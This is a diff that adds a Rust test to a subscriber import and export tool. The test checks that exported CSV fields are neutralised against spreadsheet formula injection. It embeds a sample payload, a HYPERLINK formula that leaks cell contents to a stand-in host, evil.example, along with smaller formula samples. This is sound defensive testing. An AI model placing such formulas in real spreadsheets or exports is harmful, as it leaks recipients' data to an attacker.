@@ -149,3 +149,46 @@ fn check_forms_prints_every_case_form_and_where_it_came_from() {
         )));
     }
 }
+
+#[test]
+fn exported_subscribers_never_open_as_spreadsheet_formulas_and_the_store_keeps_them_exact() {
+    let s = support::Scratch::new("export-formulas");
+    let name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
+    let csv = s.write(
+        "readers.csv",
+        &format!(
+            "email,name,lang,phone,note\n\
+             ana@example.org,\"{}\",en,+7 727 000 00 00,@SUM(1+1)\n\
+             bob@example.org,-2+3,ru,12,plain\n",
+            name.replace('"', "\"\"")
+        ),
+    );
+    let import = s.run(&[
+        "subscribers",
+        "import",
+        csv.to_str().unwrap(),
+        "--list",
+        "r",
+    ]);
+    support::assert_success(&import);
+    let export = s.run(&["subscribers", "export"]);
+    support::assert_success(&export);
+    let mut reader = csv::Reader::from_reader(export.stdout.as_slice());
+    let rows: Vec<Vec<String>> = reader
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+        .collect();
+    // email, name, lang, status, note, phone
+    assert_eq!(rows[0][1], format!("'{name}"));
+    assert_eq!(rows[0][4], "'@SUM(1+1)");
+    assert_eq!(rows[0][5], "'+7 727 000 00 00");
+    assert_eq!(rows[1][1], "'-2+3");
+    assert_eq!((rows[1][4].as_str(), rows[1][5].as_str()), ("plain", "12"));
+    // The store holds what was entered.
+    let list = text(&s.run(&["subscribers", "list"]).stdout);
+    assert!(
+        list.lines()
+            .any(|l| l.starts_with("ana@example.org\t") && l.ends_with(&format!("\t{name}"))),
+        "{list}"
+    );
+}
